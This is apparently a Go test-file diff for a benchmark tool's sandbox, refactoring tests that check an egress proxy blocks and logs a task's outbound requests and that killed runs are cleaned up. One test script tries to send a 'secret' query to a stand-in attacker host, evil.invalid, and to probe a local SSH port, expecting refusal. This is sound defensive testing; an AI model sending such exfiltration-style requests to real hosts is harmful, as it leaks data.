@@ -1,7 +1,7 @@
 package main
 
 import (
-	"encoding/json"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -9,24 +9,13 @@ import (
 	"syscall"
 	"testing"
 
-	"github.com/securebench/sbench/internal/test/containerdtest"
-	"github.com/securebench/sbench/internal/test/filetest"
+	"github.com/securebench/sbench/run/record"
 )
 
 // egressPack writes a pack with a terminal task whose harness may reach some domains.
-func (h testHost) egressPack(command, more string) string {
-	h.t.Helper()
-	dir := h.t.TempDir()
-	script, err := json.Marshal(command)
-	must(h.t, err)
-	filetest.Write(h.t, dir, map[string]string{
-		"manifest.yaml": "id: p\nversion: 1\ndefaults: {family: terminal_task, environment: {image: '" + containerdtest.Image + "', timeout_seconds: 300}}\n",
-		"tasks.jsonl": `{"id": "open", "input": {"instructions": "x"}, "eval": {"checker": {"command": "true"}}}` + "\n" +
-			`{"id": "closed", "input": {"instructions": "x"}, "eval": {"checker": {"command": "true"}}, "environment": {"network": "none"}}` + "\n",
-		"tester.yaml": "schema_version: '0.2'\nrun: {id: r, output_dir: out}\nbenchmark: {manifest: manifest.yaml, tasks: tasks.jsonl}\n" + more +
-			"harness: {type: command, config: {allowed_domains: [allowed.invalid], command: " + string(script) + "}}\n",
-	})
-	return filepath.Join(dir, "tester.yaml")
+func (h testHost) egressPack(command string) string {
+	rows := taskRow("open", "true", "") + taskRow("closed", "true", `, "environment": {"network": "none"}`)
+	return writePack(h.t, h.t.TempDir(), rows, fmt.Sprintf("harness: {type: command, config: {allowed_domains: [allowed.invalid], command: %q}}\n", command))
 }
 
 // TestCommandWayOut: a command harness finds its proxy in its environment. The proxy refuses and logs. A task's
@@ -41,35 +30,23 @@ except OSError: pass
 for url in ("https://evil.invalid/", "http://evil.invalid/?q=secret", "https://allowed.invalid/", "http://127.0.0.1:22/"):
     try: u.urlopen(url, timeout=20); print(url, "reached")
     except Exception as e: print(url, e)
-P`, "")
+P`)
 	output := filepath.Join(h.dir, "out")
 	h.sbench(0, "run", "--quiet", "--config", tester, "--output-dir", output)
-	type line struct {
-		Task   string `json:"task_id"`
-		Out    string `json:"producer_stdout"`
-		Open   bool   `json:"network_enabled"`
-		Egress *struct {
-			Proxy struct{ Denied, Errors int }
-		} `json:"egress"`
-	}
-	records := map[string]line{}
-	text, err := os.ReadFile(filepath.Join(output, "candidates.jsonl"))
-	must(t, err)
-	for row := range strings.Lines(string(text)) {
-		var r line
-		must(t, json.Unmarshal([]byte(row), &r))
-		records[r.Task] = r
+	records := map[string]record.Record{}
+	for _, r := range recordsOf(t, output) {
+		records[r.TaskID] = r
 	}
 	open := records["open"]
 	for _, want := range []string{"HTTPS_PROXY=http://127.0.0.1:3128", "https_proxy=", "ALL_PROXY=", "no_proxy=127.0.0.1,localhost,::1", "nameserver 127.0.0.53", "JAVA_TOOL_OPTIONS=-Dhttp.proxyHost=127.0.0.1 -Dhttp.proxyPort=3128", "evil.invalid/ <urlopen error Tunnel connection failed: 403", "evil.invalid/?q=secret HTTP Error 403"} {
-		if !strings.Contains(open.Out, want) {
-			t.Errorf("the harness does not say %q:\n%s", want, open.Out)
+		if !strings.Contains(open.ProducerStdout, want) {
+			t.Errorf("the harness does not say %q:\n%s", want, open.ProducerStdout)
 		}
 	}
-	if strings.Contains(open.Out, "reached") || !open.Open || open.Egress == nil || open.Egress.Proxy.Denied < 2 {
+	if strings.Contains(open.ProducerStdout, "reached") || !open.NetworkEnabled || open.Egress == nil || open.Egress.Proxy.Denied < 2 {
 		t.Errorf("%+v", open)
 	}
-	if closed := records["closed"]; strings.Contains(closed.Out, "PROXY") || strings.Contains(closed.Out, "reached") || closed.Egress != nil {
+	if closed := records["closed"]; strings.Contains(closed.ProducerStdout, "PROXY") || strings.Contains(closed.ProducerStdout, "reached") || closed.Egress != nil {
 		t.Errorf("network none: %+v", closed)
 	}
 	log, err := os.ReadFile(filepath.Join(output, "egress.jsonl"))
@@ -90,7 +67,7 @@ P`, "")
 func TestKilledWayOut(t *testing.T) {
 	h := newHost(t)
 	before := h.runs()
-	tester := h.egressPack("sleep 3000; : "+h.mark("way-out"), "")
+	tester := h.egressPack("sleep 3000; : " + h.mark("way-out"))
 	cmd := exec.Command("sbench", "run", "--quiet", "--config", tester, "--task", "open", "--output-dir", filepath.Join(h.dir, "out"))
 	cmd.Env = h.env
 	must(t, cmd.Start())
@@ -113,23 +90,5 @@ func TestKilledWayOut(t *testing.T) {
 	}
 	dead := difference(h.runs(), before)
 	h.sbench(0, "gc")
-	for _, run := range dead {
-		if left := h.left(run); len(left) > 0 {
-			t.Errorf("left behind: %v", left)
-		}
-	}
-}
-
-// pidOf returns a process that alive finds.
-func (h testHost) pidOf(name string) string {
-	h.t.Helper()
-	found, err := filepath.Glob("/proc/[0-9]*/cmdline")
-	must(h.t, err)
-	for _, f := range found {
-		if line, err := os.ReadFile(f); err == nil && strings.Contains(string(line), "sleep 3") && strings.Contains(string(line), h.mark(name)) {
-			return filepath.Base(filepath.Dir(f))
-		}
-	}
-	h.t.Fatalf("no process of %s", name)
-	return ""
+	h.cleared(dead...)
 }
